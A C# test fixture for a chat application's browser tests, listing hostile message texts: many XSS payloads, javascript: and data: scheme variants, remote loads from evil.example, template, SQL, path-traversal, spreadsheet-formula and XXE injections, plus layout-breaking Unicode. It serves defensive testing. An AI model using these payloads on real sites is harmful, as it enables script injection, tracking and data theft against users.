namespace ChatMonolith.Tests.Browser;

/// <summary>Texts that people write who want to harm others: markup, links, Markdown, styles, foreign loads, and what breaks a layout.</summary>
internal static class HostileTexts
{
    /// <summary>What none of them may bring about; <see cref="Device"/> fails for the dialog too.</summary>
    public const string Runs = "document.title='PWNED';alert(1)";

    private const string Elsewhere = "https://evil.example/x";

    /// <summary>Schemes that run or load something, and ways to write them that a filter may miss.</summary>
    private static readonly string[] Schemes =
    [
        $"javascript:{Runs}", $"JaVaScRiPt:{Runs}", $"java\tscript:{Runs}", $" javascript:{Runs}", $"\u0001javascript:{Runs}", $"javascript&colon;{Runs}",
        $"&#106;avascript:{Runs}", $"&#x6A;avascript:{Runs}", $"javascript%3A{Runs}", $"vbscript:{Runs}", $"data:text/html,<script>{Runs}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", $"data:image/svg+xml,<svg onload={Runs}>", "file:///etc/passwd", "blob:https://evil.example/1", $"view-source:{Elsewhere}",
    ];

    private static readonly string[] Links =
        ["[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", "[x]: {0}\n\n[x]", "[![x]({0})]({0})", "[x]({0} \"title\")", "{0}"];

    private static readonly string[] Markup =
    [
        $"<script>{Runs}</script>", $"<ScRiPt>{Runs}</sCrIpT>", $"<script src={Elsewhere}.js></script>", $"<script/x>{Runs}</script>", $"<scr<script>ipt>{Runs}</script>", $"<<script>{Runs}//<</script>",
        $"<img src=x onerror=\"{Runs}\">", $"<img/src=x/onerror={Runs}>", $"<img src=x onerror=&#97;lert(1)>", $"<img src={Elsewhere}.png>", $"<img srcset=\"{Elsewhere}.png 2x\">", $"<image src=x onerror={Runs}>",
        $"<svg onload=\"{Runs}\"></svg>", $"<svg/onload={Runs}>", $"<svg><script>{Runs}</script></svg>", $"<svg><animate onbegin={Runs} attributeName=x dur=1s>", $"<svg><use href=\"{Elsewhere}.svg#x\"/></svg>",
        $"<svg><a xlink:href=\"javascript:{Runs}\"><text y=20>x</text></a></svg>", $"<svg><foreignObject><iframe srcdoc=\"<script>{Runs}</script>\"></foreignObject></svg>",
        $"<iframe srcdoc=\"<script>{Runs}</script>\"></iframe>", $"<iframe src=\"javascript:{Runs}\"></iframe>", $"<iframe src={Elsewhere}></iframe>", $"<frameset onload={Runs}><frame src={Elsewhere}></frameset>",
        $"<math><mtext><table><mglyph><style><img src=x onerror=\"{Runs}\">", $"<math href=\"javascript:{Runs}\">x</math>", $"<math><mi xlink:href=\"javascript:{Runs}\">x</mi></math>",
        $"<details open ontoggle=\"{Runs}\">", $"<a href=\"javascript:{Runs}\">x</a>", $"<a href={Elsewhere} ping={Elsewhere}>x</a>", $"<area href=\"javascript:{Runs}\">", $"<body onload={Runs}>", $"<input autofocus onfocus={Runs}>",
        $"<select autofocus onfocus={Runs}>", $"<textarea autofocus onfocus={Runs}>", $"<keygen autofocus onfocus={Runs}>", $"<marquee onstart={Runs}>x</marquee>", $"<video src={Elsewhere}.mp4 onerror={Runs}></video>",
        $"<video poster={Elsewhere}.png></video>", $"<audio src={Elsewhere}.mp3 autoplay></audio>", $"<source srcset={Elsewhere}.png>", $"<track src={Elsewhere}.vtt>", $"<object data={Elsewhere}.swf></object>",
        $"<object data=\"data:text/html,<script>{Runs}</script>\"></object>", $"<embed src={Elsewhere}.swf>", $"<embed src=\"javascript:{Runs}\">", $"<applet code={Elsewhere}></applet>", $"<portal src={Elsewhere}></portal>",
        $"<form action={Elsewhere}><button>x</button></form>", $"<form><button formaction=\"javascript:{Runs}\">x</button></form>", "<isindex type=image src=1 onerror=alert(1)>",
        $"<style>@import url('{Elsewhere}.css');</style>", $"<style>*{{background:url({Elsewhere}.png)}}</style>", "<style>*{display:none}</style>", $"<p style=\"background:url({Elsewhere}.png)\">x</p>",
        "<p style=\"position:fixed;inset:0;background:red\">x</p>", $"<link rel=stylesheet href={Elsewhere}.css>", $"<link rel=prefetch href={Elsewhere}>", "<link rel=dns-prefetch href=//evil.example>",
        $"<meta http-equiv=refresh content=\"0;url={Elsewhere}\">", $"<meta http-equiv=refresh content=\"0;url=javascript:{Runs}\">", "<base href=https://evil.example/>",
        $"<template><script>{Runs}</script></template>", $"<noscript><p title=\"</noscript><img src=x onerror={Runs}>\">", $"<xmp><p title=\"</xmp><img src=x onerror={Runs}>\">", $"<plaintext><script>{Runs}</script>",
        $"<!--><script>{Runs}</script>-->", $"<!-- --!><img src=x onerror={Runs}> -->", $"<![CDATA[<script>{Runs}</script>]]>", $"<?xml-stylesheet href=\"javascript:{Runs}\"?>", $"<!DOCTYPE x [<!ENTITY e SYSTEM '{Elsewhere}'>]>&e;",
        $"</textarea></title></style></script><script>{Runs}</script>", $"\"><img src=x onerror={Runs}>", $"' autofocus onfocus={Runs} x='", $"'-{Runs}-'", $"`-{Runs}-`", $"\\\";{Runs}//", $"</p></div></article><script>{Runs}</script>",
        "<x data-testid=\"message\" id=\"main\" name=\"body\">", "<img name=getElementById>", "<form id=app><input name=attributes></form>", "<a id=defaultView></a><a id=defaultView name=x></a>",
        $"<x onclick={Runs} tabindex=1 onfocus={Runs} autofocus>x</x>", $"<custom-element onconnected={Runs}></custom-element>", $"<dialog open oncancel={Runs}>x</dialog>", $"<slot onslotchange={Runs}></slot>",
        $"&lt;script&gt;{Runs}&lt;/script&gt;", $"&#60;script&#62;{Runs}&#60;/script&#62;", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", $"<\u200Bscript>{Runs}</script>",
    ];

    private static readonly string[] Templates =
    [
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{% raw %}alert(1){% endraw %}", "[[${alert(1)}]]", "@(alert(1))", "__proto__", "constructor", "toString", "{\"__proto__\":{\"x\":1}}",
        "%s%n%x", "../../../../etc/passwd", "'; DROP TABLE messages; --", "\" OR 1=1 --", "=cmd|' /C calc'!A0", "null", "undefined", "NaN", "-0",
    ];

    private static readonly string[] Markdown =
    [
        $"`<img src=x onerror=\"{Runs}\">`", $"```html\n<script>{Runs}</script>\n```", $"```\"onmouseover={Runs} x=\"\ncode\n```", "```\nnever closed", $"[a\"onmouseover={Runs}](https://ok.example)", $"[x](https://ok.example \"><script>{Runs}</script>\")",
        $"[x](https://ok.example'onmouseover='{Runs})", $"https://ok.example/\"onmouseover=\"{Runs}", $"https://ok.example/<script>{Runs}</script>", $"[<img src=x onerror={Runs}>](https://ok.example)", $"| <b onclick={Runs}> | b |\n|---|---|\n| <script>{Runs}</script> | 2 |",
        $"> <script>{Runs}</script>", $"- [x] <img src=x onerror={Runs}>", $"# <svg onload={Runs}>", $"**<b onmouseover={Runs}>bold</b>**", "![x](https://evil.example/pixel.png)", "![](//evil.example/pixel.png)", "[![x](https://evil.example/a.png)](https://evil.example/b)",
        "<https://evil.example/\" onclick=\"alert(1)>", "mailto:\"onclick=alert(1)\"@evil.example", "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/api/v1/auth/logout)", "http://user:password@evil.example@ok.example/",
        "https://\u0430pple.example/", "https://ok.example\u2044evil.example", "@<script>alert(1)</script>", "#<img src=x onerror=alert(1)>", ":<img src=x onerror=alert(1)>:", "@all\"onclick=alert(1)",
    ];

    /// <summary>What is wide, high, deep, or runs the other way.</summary>
    private static readonly string[] Layout =
    [
        new('W', 3_000), string.Concat(Enumerable.Repeat("nobreak\u00A0", 300)), "https://ok.example/" + new string('a', 2_500), $"`{new string('x', 2_000)}`", $"**{new string('b', 2_000)}**", new string('\u2003', 500) + "x",
        string.Concat(Enumerable.Repeat(">", 60)) + " deep", string.Concat(Enumerable.Range(0, 40).Select(i => new string(' ', i * 2) + "- deep\n")), string.Join('\n', Enumerable.Repeat("#### high", 150)), string.Concat(Enumerable.Repeat("[", 1_000)),
        string.Concat(Enumerable.Repeat("*a", 1_000)), string.Concat(Enumerable.Repeat("<div>", 500)), "|" + string.Concat(Enumerable.Repeat("wide|", 60)) + "\n|" + string.Concat(Enumerable.Repeat("---|", 60)) + "\n|" + string.Concat(Enumerable.Repeat("cell|", 60)),
        "z" + string.Concat(Enumerable.Repeat("\u0300\u0301\u0302\u0303\u0304", 60)), "\u202Egnp.exe \u202Dtext", "\u2066\u2067\u2068never closed", "\u202E<script>gnp.exe", "\u200B\u200C\u200D\uFEFFx", "\uFDFD\uFDFD\uFDFD\uFDFD\uFDFD", "\u0628\u0633\u0645 \u0627\u0644\u0644\u0647 mixed \u05E9\u05DC\u05D5\u05DD",
        string.Concat(Enumerable.Repeat("\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466", 80)), string.Concat(Enumerable.Repeat("\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", 40)), "\u2028line\u2029paragraph", "a\r\rb\vc\fd", "\u1160\u3164\uFFA0x", string.Concat(Enumerable.Repeat("\n", 300)) + "far below",
        string.Concat(Enumerable.Repeat("\u2588", 1_500)), "\uFFFD\uFFFE\uFFFF", string.Concat(Enumerable.Repeat("\u0E4F\u0E49\u0E49\u0E49\u0E49", 100)), new string('-', 2_000), new string('_', 2_000) + "x", new string('1', 2_000) + ". list",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. Markup, .. Schemes.SelectMany(scheme => Links.Select(link => link.Replace("{0}", scheme, StringComparison.Ordinal))), .. Templates, .. Markdown, .. Layout,
    ];
}
